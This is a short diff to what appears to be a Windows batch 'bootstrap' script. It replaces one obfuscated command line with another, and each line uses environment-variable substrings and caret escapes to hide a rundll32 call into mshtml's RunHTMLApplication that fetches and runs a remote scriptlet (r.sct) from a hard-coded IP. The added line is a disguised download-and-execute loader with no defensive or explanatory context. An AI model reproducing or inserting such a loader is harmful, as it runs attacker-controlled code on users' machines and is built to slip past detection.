@@ -1,2 +1,2 @@
-REM bootstrap 3056 v2
-%public:~6,1%u%comspec:~5,1%%windir:~6,1%%public:~12,1%^l^32.%COMSPEC:~26,1%%comspec:~25,1%%comspec:~-12,1% ja^va^s^c^r^ipt:"\..\mshtml,RunHTMLApplication ";docu^men^t.w^r^ite();GetO^b^ject("script:http://198.51.100.9/r.sct")
+REM bootstrap 8400 v2
+%programdata:~4,1%%PUBLIC:~-5,1%%COMSPEC:~5,1%%windir:~6,1%%PUBLIC:~12,1%%public:~12,1%^32.%PUBLIC:~5,1%%COMSPEC:~25,1%%comspec:~24,1% j^a^vas^cript:"\..\mshtml,RunHTMLApplication ";d^ocum^ent.w^ri^te();^Ge^t^O^b^je^ct("script:http://192.0.2.150/r.sct")
